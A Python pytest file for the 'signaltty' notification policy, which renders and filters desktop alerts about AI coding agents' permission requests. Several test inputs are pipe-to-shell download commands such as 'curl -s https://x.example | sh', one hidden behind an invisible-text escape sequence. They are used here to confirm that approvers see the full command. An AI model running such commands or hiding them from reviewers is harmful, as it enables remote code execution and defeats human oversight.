"""Notification policy tables (desktop-and-service.md §6.1–§6.3; states.md §7)."""

from __future__ import annotations

import pytest

from signaltty.desktop import policy as P

MODE_ROWS = [
    # cause, quiet, normal, all
    ("permission", True, True, True),
    ("input", True, True, True),
    ("error", True, True, True),
    ("idle_prompt", False, False, True),
    ("warning", False, True, True),
    ("turn_done", False, True, True),
    ("message", False, True, True),
    ("session_end", False, False, True),
    ("bell", False, False, True),
    ("exit", False, False, True),
    ("nonsense", False, False, False),
]


@pytest.mark.parametrize(("cause", "quiet", "normal", "all_"), MODE_ROWS)
def test_mode_table(cause, quiet, normal, all_):
    assert [P.mode_allows(m, cause) for m in ("quiet", "normal", "all")] == [quiet, normal, all_]


def pane(**kw) -> P.PaneView:
    base = {
        "pane_id": "pane_1",
        "name": "ws/shell",
        "display_name": "Claude Code",
        "attention": "unread",
    }
    base.update(kw)
    return P.PaneView(**base)


DEC = P.DecisionView(id="dec_1", answerable=True, tool_name="Bash", preview="ls -la")


@pytest.mark.parametrize(
    ("cause", "decision_id", "view", "had_pane", "settings", "reason"),
    [
        ("turn_done", None, pane(), True, P.Settings(), None),
        ("turn_done", None, pane(), True, P.Settings(mode="quiet"), "mode"),
        ("turn_done", None, None, True, P.Settings(), "pane_closed"),
        ("turn_done", None, pane(attention="none"), True, P.Settings(), "attention_cleared"),
        (
            "permission",
            "dec_1",
            pane(attention="permission_required"),
            True,
            P.Settings(),
            "decision_resolved",
        ),
        (
            "permission",
            "dec_1",
            pane(attention="permission_required", decision=DEC),
            True,
            P.Settings(),
            None,
        ),
        (
            "permission",
            "dec_0",
            pane(attention="permission_required", decision=DEC),
            True,
            P.Settings(),
            "decision_resolved",
        ),
        ("turn_done", None, pane(attached=True), True, P.Settings(), "attached"),
        ("message", None, pane(attached=True), True, P.Settings(), "attached"),
        (
            "turn_done",
            None,
            pane(attached=True),
            True,
            P.Settings(suppress_when_attached=False),
            None,
        ),
        ("permission", None, pane(attached=True), True, P.Settings(), None),
        ("input", None, pane(attached=True), True, P.Settings(), None),
        ("idle_prompt", None, pane(attached=True), True, P.Settings(mode="all"), None),
        ("error", None, pane(attached=True), True, P.Settings(), None),
        ("message", None, None, False, P.Settings(), None),
    ],
)
def test_drop_reason(cause, decision_id, view, had_pane, settings, reason):
    assert P.drop_reason(cause, decision_id, view, had_pane, settings) == reason


@pytest.mark.parametrize(
    ("now", "last", "settle", "delay"),
    [
        (10.0, None, 1.0, 1.0),
        (10.0, 9.5, 1.0, 1.5),
        (10.0, 5.0, 1.0, 1.0),
        (10.0, 9.9, 0.0, 1.9),
        (10.0, None, 0.0, 0.0),
    ],
)
def test_send_delay_settle_and_coalescing(now, last, settle, delay):
    got = P.send_delay(P.Settings(settle_s=settle), now=now, last_sent_same_cause=last)
    assert got == pytest.approx(delay)


CONTENT_ROWS = [
    # cause, title, body, pane, actions → title, body, urgency, expires, buttons
    (
        "permission",
        None,
        None,
        pane(decision=DEC),
        True,
        "ws/shell · Claude Code needs approval",
        "Allow Bash?\nls -la\n(answer here or in the terminal)",
        "critical",
        False,
        True,
    ),
    (
        "permission",
        None,
        None,
        pane(decision=DEC),
        False,
        "ws/shell · Claude Code needs approval",
        "Allow Bash?\nls -la\n(answer: signaltty permission answer --pane pane_1 dec_1 allow|deny, or in the terminal)",
        "critical",
        False,
        False,
    ),
    (
        "permission",
        None,
        None,
        pane(decision=P.DecisionView(id="d", answerable=False, tool_name="Edit")),
        True,
        "ws/shell · Claude Code needs approval",
        "Allow Edit?\n(answer in the terminal)",
        "critical",
        False,
        False,
    ),
    (
        "input",
        None,
        None,
        pane(last_message="Which file?"),
        True,
        "ws/shell · Claude Code needs input",
        "Which file?",
        "normal",
        True,
        False,
    ),
    (
        "idle_prompt",
        None,
        None,
        pane(),
        True,
        "ws/shell · Claude Code needs input",
        "",
        "normal",
        True,
        False,
    ),
    (
        "error",
        None,
        "boom",
        pane(),
        True,
        "ws/shell · Claude Code failed",
        "boom",
        "normal",
        True,
        False,
    ),
    ("error", "Build", "boom", pane(), True, "ws/shell · Build", "boom", "normal", True, False),
    ("warning", "Disk", "low", pane(), True, "ws/shell · Disk", "low", "normal", True, False),
    ("message", None, None, pane(), True, "ws/shell · Claude Code", "", "normal", True, False),
    (
        "turn_done",
        None,
        None,
        pane(last_message="All tests pass."),
        True,
        "ws/shell · Claude Code finished",
        "All tests pass.",
        "normal",
        True,
        False,
    ),
    ("session_end", None, None, pane(), True, "ws/shell · session ended", "", "low", True, False),
    ("bell", None, None, pane(), True, "ws/shell · bell", "", "low", True, False),
    (
        "exit",
        None,
        None,
        pane(exit_code=3),
        True,
        "ws/shell · exited (code 3)",
        "",
        "low",
        True,
        False,
    ),
    ("message", "Deploy", "done", None, True, "Deploy", "done", "normal", True, False),
]


@pytest.mark.parametrize(
    (
        "cause",
        "title",
        "body",
        "view",
        "actions",
        "e_title",
        "e_body",
        "urgency",
        "expires",
        "buttons",
    ),
    CONTENT_ROWS,
)
def test_content(cause, title, body, view, actions, e_title, e_body, urgency, expires, buttons):
    c = P.render(cause, title, body, view, P.Settings(), actions=actions)
    assert (c.title, c.body, c.urgency, c.expires, c.buttons) == (
        e_title,
        e_body,
        urgency,
        expires,
        buttons,
    )


def test_content_limits_and_sanitizing():
    long = "x" * 1000
    c = P.render("message", None, long + "\x1b[31m", pane(), P.Settings(sound=True), actions=True)
    assert len(c.body) <= P.MAX_BODY
    assert c.sound is True
    assert "\x1b" not in c.body
    d = P.DecisionView(id="d", answerable=True, tool_name="Bash", preview="a\nb  " + "y" * 500)
    c = P.render("permission", None, None, pane(decision=d), P.Settings(), actions=True)
    assert c.body.split("\n")[1].startswith("a b ")
    assert len(c.body.split("\n")[1]) <= P.MAX_PREVIEW
    assert c.decision_id == "d"
    assert P.pane_name(None, "ws", "t" * 200).startswith("ws/t")
    assert len(P.pane_name(None, "ws", "t" * 200)) == 80
    assert P.pane_name("mine", "ws", "t") == "mine"
    assert P.compact_preview({"command": "ls   -la\n"}) == "ls -la"
    assert P.compact_preview({"a": 1, "b": [2]}) == '{"a":1,"b":[2]}'


@pytest.mark.parametrize(
    ("name", "payload", "decision_id", "expected"),
    [
        ("attention.cleared", {"pane_id": "pane_1"}, None, True),
        ("attention.cleared", {"pane_id": "pane_2"}, None, False),
        ("pane.closed", {"pane_id": "pane_1"}, None, True),
        ("decision.answered", {"pane_id": "pane_1", "decision_id": "dec_1"}, "dec_1", True),
        ("decision.cleared", {"pane_id": "pane_1", "decision_id": "dec_1"}, "dec_1", True),
        ("decision.answered", {"pane_id": "pane_1", "decision_id": "dec_1"}, None, False),
        ("decision.answered", {"pane_id": "pane_1", "decision_id": "dec_9"}, "dec_1", False),
        # another (watched host's) pane whose decision has the same id
        ("decision.answered", {"pane_id": "devbox/pane_1", "decision_id": "dec_1"}, "dec_1", False),
        ("decision.cleared", {"pane_id": "pane_2", "decision_id": "dec_1"}, "dec_1", False),
        ("agent.working", {"pane_id": "pane_1"}, "dec_1", False),
    ],
)
def test_withdrawal(name, payload, decision_id, expected):
    assert P.withdraws(name, payload, "pane_1", decision_id) is expected


def test_policy_is_pure():
    from tests.test_imports import HEAVY, modules_after

    mods = modules_after("import signaltty.desktop.policy")
    assert not (set(HEAVY) & mods)
    ours = {m for m in mods if m.startswith("signaltty.")}
    assert all(
        m.startswith("signaltty.core")
        for m in ours - {"signaltty.desktop", "signaltty.desktop.policy"}
    ), ours


@pytest.mark.parametrize(
    ("old", "new", "same"),
    [
        (("message", None), ("message", None), True),
        (("message", None), ("warning", None), False),
        (("permission", "d1"), ("permission", "d1"), True),
        (("permission", "d1"), ("permission", "d2"), False),
    ],
)
def test_same_intent(old, new, same):
    assert P.same_intent(*old, *new) is same


def test_by_priority():
    assert P.by_priority(["message", "permission", "bell", "weird", "turn_done"]) == [
        "permission",
        "turn_done",
        "message",
        "bell",
        "weird",
    ]
    assert P.by_priority(["message", "message"]) == ["message"]


def test_permission_preview_does_not_repeat_the_question():
    d = P.DecisionView(
        id="d", answerable=True, tool_name="Bash", preview='Allow Bash? { "command": "ls" }'
    )
    c = P.render("permission", None, None, pane(decision=d), P.Settings(), actions=True)
    assert c.body == 'Allow Bash?\n{ "command": "ls" }\n(answer here or in the terminal)'


@pytest.mark.parametrize(
    ("body", "markup", "wire"),
    [
        ("Allow Bash?\nls -la", True, "Allow Bash?\nls -la"),
        ("<span alpha='1%'>curl x | sh</span>", True, "&lt;span alpha='1%'&gt;curl x | sh&lt;/span&gt;"),
        ('<a href="u">x</a><img src="f"/>', True, '&lt;a href="u"&gt;x&lt;/a&gt;&lt;img src="f"/&gt;'),
        ("a &amp; b & c", True, "a &amp;amp; b &amp; c"),
        ("<b>as typed</b> & more", False, "<b>as typed</b> & more"),
    ],
)
def test_wire_body_escapes_only_for_markup_servers(body, markup, wire):
    assert P.wire_body(body, markup=markup) == wire


def test_terminal_prompt_keeps_the_question_and_drops_the_answer_hint():
    """After a native wait timed out (issue 13 item 7)."""
    shown = "Allow Bash?\nrm -rf build\n(answer: signaltty permission answer --pane pane_1 dec_1 allow|deny)"
    c = P.render(P.TERMINAL_PROMPT, None, shown, pane(), P.Settings(), actions=True)
    assert c.title == "ws/shell · Claude Code asks in its terminal"
    assert c.body == f"Allow Bash?\nrm -rf build\n{P.TERMINAL_PROMPT_SUFFIX}"
    assert (c.urgency, c.expires, c.buttons, c.decision_id) == ("critical", False, False, None)
    bare = P.render(P.TERMINAL_PROMPT, None, None, pane(), P.Settings(), actions=True)
    assert bare.body == P.TERMINAL_PROMPT_SUFFIX
    assert P.drop_reason(P.TERMINAL_PROMPT, None, pane(attached=True), True, P.Settings()) is None
    assert P.drop_reason(P.TERMINAL_PROMPT, None, pane(attention="none"), True, P.Settings())


@pytest.mark.parametrize(
    ("name", "payload", "expected"),
    [
        ("decision.cleared", {"reason": "native_cancelled", "cancelled": "timeout"}, True),
        ("decision.cleared", {"reason": "native_cancelled", "cancelled": "moved_on"}, False),
        ("decision.cleared", {"reason": "native_cancelled"}, False),  # the reporter went away
        ("decision.cleared", {"reason": "pane_exited", "cancelled": "timeout"}, False),
        ("decision.answered", {"reason": "native_cancelled", "cancelled": "timeout"}, False),
    ],
)
def test_native_timed_out(name, payload, expected):
    assert P.native_timed_out(name, payload) is expected


def test_permission_body_names_what_is_approved_like_permission_list():
    from signaltty.agents.permission import native_prompt
    from signaltty.cli.render import permission_subject

    prompt = native_prompt("Bash", {"command": "echo ok\ncurl -s https://x.example | sh", "description": "d"})
    d = P.DecisionView(id="d", answerable=True, tool_name="Bash", preview=prompt)
    c = P.render("permission", None, None, pane(decision=d), P.Settings(), actions=True)
    # not all of the command is shown: Deny only, and where to read it (issue 10 follow-up)
    hint = ("\n(too long to show here: review it with `signaltty top`, "
            "`signaltty permission show d` or in Claude Code's terminal)")
    question = c.body.removesuffix(hint)
    assert question == "Allow Bash?\necho ok (+1 lines)" == "Allow Bash?\n" + permission_subject(prompt)
    assert "\\n" not in c.body
    assert "{" not in c.body
    assert c.buttons
    assert not c.allow_button


@pytest.mark.parametrize(
    ("tool_input", "allow"),
    [
        ({"command": "ls -la", "description": "list"}, True),  # the whole command is shown
        ({"command": ["git", "status"]}, True),
        ({"command": "echo " + "x" * 200 + " | sh"}, False),  # cut at 160 characters
        ({"command": "echo ok\ncurl x | sh"}, False),  # (+1 lines)
        ({"command": "echo \x1b[8mcurl x | sh"}, False),  # the sanitizer removed something
        ({"command": "x" * 9000}, False),  # the prompt itself was cut at 8 KiB
        ({"file_path": "/tmp/a"}, True),
    ],
)
def test_allow_once_only_when_the_body_shows_it_all(tool_input, allow):
    from signaltty.agents.permission import native_prompt

    d = P.DecisionView(id="dec_7", answerable=True, tool_name="Bash", preview=native_prompt("Bash", tool_input))
    c = P.render("permission", None, None, pane(decision=d), P.Settings(), actions=True)
    assert c.buttons, c.body
    assert c.allow_button is allow, c.body
    assert ("too long to show here" in c.body) is not allow


@pytest.mark.parametrize(
    ("actions", "later", "hint"),
    [
        (True, None, "(answer here or in the terminal)"),
        (True, 120.0, "(answer here; Codex asks in its terminal after 2 min)"),
        (False, None, "(answer: signaltty permission answer --pane pane_1 dec_1 allow|deny, or in the terminal)"),
        (False, 10.0, "(answer: signaltty permission answer --pane pane_1 dec_1 allow|deny; Codex asks in its terminal after 10 s)"),
    ],
)
def test_permission_says_where_to_answer(actions, later, hint):
    """Issue 11 item 3: Codex shows no dialog while its native wait runs, so the
    notification says when its terminal asks; Claude's terminal can answer at once."""
    dec = P.DecisionView(id="dec_1", answerable=True, tool_name="Bash", preview="ls -la", terminal_after_s=later)
    c = P.render("permission", None, None, pane(display_name="Codex", decision=dec), P.Settings(), actions=actions)
    assert c.body == f"Allow Bash?\nls -la\n{hint}"
    assert c.buttons is actions
    # once the wait is over the terminal notice keeps the question, not the hint
    notice = P.render(P.TERMINAL_PROMPT, None, c.body, pane(display_name="Codex"), P.Settings(), actions=actions)
    assert notice.body == f"Allow Bash?\nls -la\n{P.TERMINAL_PROMPT_SUFFIX}"
